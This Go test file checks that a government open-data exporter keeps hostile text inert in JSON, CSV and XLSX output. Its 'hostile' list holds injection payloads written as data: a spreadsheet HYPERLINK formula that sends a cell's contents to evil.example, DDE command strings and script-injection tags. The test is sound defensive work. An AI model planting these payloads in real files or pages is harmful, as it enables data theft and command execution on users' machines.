package opendata_test

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/gongkai/gongkai/internal/config"
	"github.com/gongkai/gongkai/internal/content"
	"github.com/gongkai/gongkai/internal/date"
	"github.com/gongkai/gongkai/internal/deadline"
	"github.com/gongkai/gongkai/internal/opendata"
	"github.com/gongkai/gongkai/internal/site"
	"github.com/gongkai/gongkai/internal/yamlpos"
)

// hostile are texts that some program takes for more than a text.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点这里")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)",
	"\t=1+1", "\r=1+1", "\n=1+1", "　=1", `</script><script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `甲","乙` + "\n丙", "_x000D_甲", "_x0041_", "]]>", "<!--",
	"\u202e倒着", "a\u2028b", "😀𠮷", "'=1", "{{.Site}}", "1e5", "007", "TRUE", "2026-11-21", "#REF!", strings.Repeat("长", 40_000),
}

// hostileSite has a unit, an item, a document and more for each hostile text.
func hostileSite(t *testing.T) *site.Site {
	t.Helper()
	now, err := date.Parse("2026-11-21")
	if err != nil {
		t.Fatal(err)
	}
	text := func(s string) yamlpos.Text { return yamlpos.Text{V: s} }
	s := &site.Site{Now: now, Config: &config.Site{Name: text(`<b>=示范县`), Domain: text("www.shifan.gov.cn"), Sponsor: text(`=办公室"]]>`)}}
	for _, x := range hostile {
		e := site.Entry{Title: x, Summary: x, Keywords: []string{x}, Published: now, URL: "p/a.html", Files: []*site.File{{Name: x, URL: "p/a.pdf"}}}
		u := &site.Unit{ID: "u", Name: x, Level: "县级", Kind: "部门", URL: "units/u.html"}
		u.Organ = &site.Organ{Unit: u, Organ: &content.Organ{Duties: []yamlpos.Text{text(x)}, Leaders: []content.Leader{{Post: text(x), Portfolio: text(x)}}, Offices: []content.Office{{Name: text(x)}}}}
		d := &site.Domain{ID: "d", Name: x, URL: "catalog/d.html", NoLevels: true}
		it := &site.Item{ID: "d-01", Category: x, Matter: x, Submatter: x, Content: []string{x}, Deadline: deadline.Deadline{Kind: deadline.Unparsed, Raw: x}, Publisher: x, Channels: []string{x}, Audience: []string{"特定群体"}, AudienceGroup: x, Note: x, Domain: d, Basis: []site.Basis{{Title: x, Number: x}}, URL: "catalog/d/d-01.html"}
		d.Items = []*site.Item{it, it}
		d.Units = []*site.UnitRows{{Unit: u, Domain: d, Items: d.Items}}
		u.Rows = d.Units
		p := &site.Policy{Entry: e, Number: x, IndexNumber: x, Issuer: u, Signed: now, State: content.InForce, Genre: x, Theme: x}
		p.Repeals, p.RepealedBy = []*site.Policy{p}, []*site.Policy{p}
		i := &site.Interpretation{Entry: e, Interprets: []*site.Policy{p}, Forms: []string{x}, Organ: u, Interpreter: x, Consultation: x}
		g := &site.Gazette{Entry: e, Year: 2026, Groups: []site.GazetteGroup{{Name: x, Documents: []site.GazetteDocument{{Entry: &p.Entry, Policy: p}}}}}
		r := &site.Report{Entry: e, Year: 2025, Unit: u, Report: report(t)}
		s.Units, s.Domains, s.Policies = append(s.Units, u), append(s.Domains, d), append(s.Policies, p)
		s.Interpretations, s.Gazettes, s.Reports = append(s.Interpretations, i), append(s.Gazettes, g), append(s.Reports, r)
		s.Disclosures = append(s.Disclosures, &site.Disclosure{Entry: e, Item: it, Unit: u, Formed: now, Origin: x})
		s.Regimes = append(s.Regimes, &site.Regime{Entry: e, Issuer: x, Kind: "行政法规", Number: x})
	}
	return s
}

func report(t *testing.T) *content.Report {
	t.Helper()
	form, err := content.FormFor(2025)
	if err != nil {
		t.Fatal(err)
	}
	r := &content.Report{Form: form, Table2: map[string][]yamlpos.Number{}, Table3: map[string][]yamlpos.Number{}, Table4: map[string][]yamlpos.Number{}}
	for _, b := range form.Table2 {
		for _, row := range b.Rows {
			r.Table2[row] = make([]yamlpos.Number, len(b.Columns))
		}
	}
	for _, line := range form.Table3 {
		r.Table3[line.ID] = make([]yamlpos.Number, len(content.Table3Columns))
	}
	for _, row := range content.Table4Rows {
		r.Table4[row] = make([]yamlpos.Number, len(content.Table4Columns))
	}
	return r
}

func TestHostileTextsStayTexts(t *testing.T) {
	s := hostileSite(t)
	d, err := opendata.Build(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range d.Files {
		switch {
		case strings.HasSuffix(f.Path, ".json"):
			if !json.Valid(f.Data) || bytes.ContainsAny(f.Data, "<>&\u2028") {
				t.Errorf("%s can end the script it stands in", f.Path)
			}
		case strings.HasSuffix(f.Path, ".csv"):
			for _, row := range rowsOfCSV(t, f.Data) {
				for _, cell := range row {
					if r := strings.TrimLeft(cell, "\t\r\n 　"); r != "" && strings.ContainsAny(r, "=+-@＝＋－＠") && strings.ContainsRune("=+-@＝＋－＠", []rune(r)[0]) {
						t.Errorf("%s has a formula: %.40q", f.Path, cell)
					}
				}
			}
		case strings.HasSuffix(f.Path, ".xlsx"):
			book := opened(t, f.Data)
			noFormulas(t, book)
			onlyTextAndNumbers(t, f.Path, book)
		}
	}
	var doc struct {
		Policies []struct {
			Title, Summary string
			Keywords       []string
		}
	}
	if err := json.Unmarshal(fileOf(t, d, "data/policies.json"), &doc); err != nil {
		t.Fatal(err)
	}
	sheet, err := opened(t, fileOf(t, d, "data/policies.xlsx")).GetRows("政策文件")
	if err != nil {
		t.Fatal(err)
	}
	rows := rowsOfCSV(t, fileOf(t, d, "data/policies.csv"))
	for i, want := range hostile {
		if p := doc.Policies[i]; p.Title != want || p.Summary != want || !slices.Equal(p.Keywords, []string{want}) {
			t.Errorf("JSON: %.40q became %.40q", want, p.Title)
		}
		// Lines end in LF once a CSV or an XML document is read.
		want := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(want)
		if got := rows[i+1][0]; got != want && got != "'"+want {
			t.Errorf("CSV: %.40q became %.40q", want, got)
		}
		got := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(sheet[i+1][0])
		if len(want) > 100_000 {
			if !strings.HasPrefix(want, strings.TrimSuffix(got, "……（太长，全文见 JSON）")) || got == want {
				t.Errorf("XLSX: a text of %d bytes became one of %d", len(want), len(got))
			}
			continue
		}
		if got != want {
			t.Errorf("XLSX: %.40q became %.40q", want, got)
		}
	}
}

// onlyTextAndNumbers holds that every cell is a text or, where the row says a number,
// a number: none is a date, a truth value or an error that Excel made of it.
func onlyTextAndNumbers(t *testing.T, path string, f *excelize.File) {
	t.Helper()
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, cell := range row {
				at, _ := excelize.CoordinatesToCellName(j+1, i+1)
				kind, err := f.GetCellType(name, at)
				if err != nil {
					t.Fatal(err)
				}
				hostileText := slices.Contains(hostile, cell)
				if kind != excelize.CellTypeInlineString && (kind != excelize.CellTypeUnset || hostileText) {
					t.Errorf("%s %s: %.40q is of type %v", path, at, cell, kind)
				}
			}
		}
	}
}
